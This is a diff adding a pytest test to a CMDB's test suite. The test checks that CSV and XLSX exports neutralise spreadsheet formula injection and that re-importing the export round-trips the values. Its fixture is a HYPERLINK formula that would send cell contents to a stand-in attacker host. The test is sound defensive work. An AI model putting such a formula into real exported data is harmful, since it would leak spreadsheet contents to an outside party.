@@ -2,6 +2,8 @@
 drift, baselines, import/export."""
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -257,3 +259,24 @@ def test_export_and_import_csv_and_xlsx(db, user):
     assert [(e["row"], sorted(e["errors"])) for e in result["errors"]] == [(3, ["ip_address"]), (4, [])]
     assert _ci(db, "NET-COUNTY-00001").attributes == {"ip_address": "10.2.0.1", "serial_number": "SN1"}
     assert _ci(db, "SRV-DB-01").name == "环境质量数据库服务器"  # controlled: not changed by an import
+
+
+def test_exports_never_carry_formulas(db, user):
+    """A CI name or attribute typed as a formula is exported as text (CSV/formula injection), and an import
+    of the exported CSV gives the value back unchanged."""
+    from openpyxl import load_workbook
+
+    lead = user("configuration_lead")
+    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"点击")'
+    ci = cmdb.create_ci(lead, ci_type="server", name=evil, attributes={"location": "+1 机房", "supplier": "@供应商"})
+    db.session.flush()
+    book = load_workbook(io.BytesIO(cmdb.export_xlsx(lead)))
+    cells = {c.value: c.data_type for row in book.active.iter_rows() for c in row if c.value is not None}
+    assert cells[evil] == "s" and cells["+1 机房"] == "s"
+    assert not any(t == "f" for t in cells.values())
+    rows = list(csv.reader(io.StringIO(cmdb.export_csv(lead).decode("utf-8-sig"))))
+    mine = next(r for r in rows if r[0] == ci.code)
+    assert mine[1] == "'" + evil and "'+1 机房" in mine and "'@供应商" in mine
+    back = next(r for r in cmdb.parse_records(cmdb.export_csv(lead).decode("utf-8-sig"), "csv")
+                if r["code"] == ci.code)
+    assert back["name"] == evil and back["location"] == "+1 机房" and back["supplier"] == "@供应商"
